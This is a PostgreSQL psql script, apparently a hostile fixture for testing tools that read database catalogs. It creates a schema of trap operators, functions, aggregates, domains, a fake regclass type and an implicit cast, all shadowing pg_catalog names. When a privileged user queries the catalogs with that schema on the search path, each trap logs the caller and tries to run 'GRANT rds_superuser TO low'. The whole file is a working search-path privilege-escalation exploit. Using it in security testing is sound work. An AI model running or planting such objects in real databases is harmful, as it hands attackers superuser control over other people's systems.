-- What the owner of a database can put in the way of whoever reads its catalogs: operators, functions, aggregates,
-- domains, types and casts of the names that catalog queries use. Each of them tells the server's log who ran it, and
-- tries to take that login's power. psql's variable "schema" says where they are.
SET search_path = pg_catalog;
CREATE SCHEMA IF NOT EXISTS :"schema";
SELECT pg_catalog.set_config('hostile.schema', :'schema', false);

CREATE FUNCTION :"schema".trap() RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN
  IF session_user = 'low' THEN RETURN true; END IF;
  RAISE LOG 'hostile code of % ran as %', current_database(), session_user;
  BEGIN
    EXECUTE 'GRANT rds_superuser TO low';
  EXCEPTION WHEN OTHERS THEN
    NULL;
  END;
  RETURN true;
END $$;
SELECT pg_catalog.format(
  'CREATE FUNCTION %1$I.trap_value(pg_catalog.text) RETURNS boolean LANGUAGE sql AS ''SELECT %1$I.trap()''', :'schema') \gexec

DO $make$
DECLARE
  schema text := current_setting('hostile.schema');
  plain oid[] := ARRAY['name', 'text', 'oid', 'int4', 'int8', 'bool', '"char"', 'name[]', 'oid[]', 'text[]', 'regclass',
    'aclitem[]', 'timestamptz', 'xid', 'inet', 'json', 'numeric', 'regproc', '"char"[]', 'aclitem', 'int2', 'regrole']::regtype[];
  body text := format('LANGUAGE plpgsql AS ''BEGIN PERFORM %I.trap(); RETURN NULL; END''', schema);
  o record;
  number int := 0;
BEGIN
  FOR o IN
    SELECT oprname, oprleft::regtype AS l, oprright::regtype AS r, oprresult::regtype AS res FROM pg_operator
    WHERE oprkind = 'b' AND oprleft = ANY (plain) AND oprright = ANY (plain) AND oprresult = ANY (plain)
    UNION SELECT '||', 'text[]'::regtype, 'text'::regtype, 'text[]'::regtype
    UNION SELECT '=', 'name'::regtype, 'text'::regtype, 'bool'::regtype
  LOOP
    number := number + 1;
    EXECUTE format('CREATE FUNCTION %I.operator_%s(%s, %s) RETURNS %s %s', schema, number, o.l, o.r, o.res, body);
    EXECUTE format('CREATE OPERATOR %I.%s (FUNCTION = %I.operator_%s, LEFTARG = %s, RIGHTARG = %s)',
      schema, o.oprname, schema, number, o.l, o.r);
  END LOOP;
  FOR o IN
    SELECT proname AS name, oidvectortypes(proargtypes) AS arguments, prorettype::regtype AS res FROM pg_proc
    WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f' AND NOT proretset AND pronargs <= 3
      AND prorettype = ANY (plain) AND proargtypes::oid[] <@ plain
      AND proname ~ '^(current|has_|pg_|set_|lower|substr|txid|quote|md5|format|family|host|now|date_|isfinite|coalesce|acl)'
    UNION VALUES ('lower', 'name', 'text'::regtype), ('cardinality', 'text[]', 'int4'), ('format', 'text, name, name', 'text'),
      ('unnest', 'text[]', 'text'), ('array_length', 'text[], integer', 'int4'), ('string_agg', 'text, text', 'text')
  LOOP
    EXECUTE format('CREATE FUNCTION %I.%I(%s) RETURNS %s %s', schema, o.name, o.arguments, o.res, body);
  END LOOP;
  EXECUTE format('CREATE FUNCTION %I.step(int8) RETURNS int8 %s', schema, body);
  EXECUTE format('CREATE AGGREGATE %1$I.count(*) (SFUNC = %1$I.step, STYPE = int8, INITCOND = ''0'')', schema);
  FOR o IN SELECT unnest(ARRAY['name', 'text']::regtype[]) AS t LOOP
    EXECUTE format('CREATE FUNCTION %I.step(json, %s) RETURNS json %s', schema, o.t, body);
    EXECUTE format('CREATE AGGREGATE %1$I.json_agg(%2$s) (SFUNC = %1$I.step, STYPE = json)', schema, o.t);
  END LOOP;
  FOR o IN SELECT unnest(ARRAY['name', 'text', 'oid', 'int4', 'int8', 'bool', 'regrole', 'regproc', 'inet']) AS name LOOP
    EXECUTE format('CREATE DOMAIN %1$I.%2$I AS pg_catalog.%2$I CHECK (%1$I.trap_value(VALUE::pg_catalog.text))', schema, o.name);
  END LOOP;
  EXECUTE format('CREATE TYPE %I.regclass AS ENUM (''pg_class'')', schema);
  EXECUTE format('CREATE FUNCTION %I.cast_to(pg_catalog.text) RETURNS %I.regclass %s', schema, schema, body);
  EXECUTE format('CREATE CAST (pg_catalog.text AS %1$I.regclass) WITH FUNCTION %1$I.cast_to AS IMPLICIT', schema);
END $make$;
GRANT USAGE ON SCHEMA :"schema" TO PUBLIC;
